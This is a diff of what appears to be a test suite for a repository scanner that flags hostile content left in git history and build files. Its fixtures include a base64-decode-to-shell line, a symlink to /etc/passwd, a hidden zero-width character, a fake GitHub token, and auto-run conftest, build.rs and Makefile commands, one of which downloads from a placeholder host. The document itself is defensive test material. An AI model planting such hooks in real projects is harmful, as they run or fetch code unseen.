@@ -158,6 +158,11 @@ hostile history-program 'history-hidden=block@src/tool' 'a program that came and
 { printf '\177ELF\2\1\1\0'; random 400 7; } >src/tool && commit Add
 rm src/tool && echo x >src/x.py && commit Remove
 EOF
+hostile history-line 'history-hidden=block@src/go[.]sh history-hidden=block@src/x history-hidden=block@src/y[.]c' 'a line, a link and letters that came and went' <<'EOF'
+echo 'echo cGF5 | base64 -d |  sh' >src/go.sh && ln -s /etc/passwd src/x
+bytes 'int a\0342\0200\0213b;\n' >src/y.c && commit Add
+rm src/go.sh src/x src/y.c && echo x >src/x.py && commit Remove
+EOF
 hostile history-nul 'history-hidden=block@src/key[.]dat' 'a key behind a NUL that came and went' <<'EOF'
 { bytes '\0000\n'; printf 'key = "ghp_%s"\n' 0123456789abcdefghijABCDEFGHIJ456789; } >src/key.dat && commit Add
 rm src/key.dat && echo x >src/x.py && commit Remove
@@ -374,8 +379,8 @@ EOF
 hostile build-conftest 'build-file=ask@tests/conftest[.]py' 'what pytest loads by itself' <<'EOF'
 echo 'import os; os.system("id")' >tests/conftest.py
 EOF
-hostile build-nested 'build-file=ask@src/deep/Makefile' 'a Makefile deep in the tree' <<'EOF'
-mkdir src/deep && printf 'all:\n\tid\n' >src/deep/Makefile
+hostile build-nested 'build-rules=note@src/deep/Makefile build-download=ask@src/deep/Makefile' 'a Makefile deep in the tree that reaches out' <<'EOF'
+mkdir src/deep && printf 'all:\n\twget -q https://get.example.test/x\n' >src/deep/Makefile
 EOF
 hostile build-rust 'build-file=ask@build[.]rs' 'a program that cargo runs' <<'EOF'
 echo 'fn main() { std::process::Command::new("id").spawn(); }' >build.rs
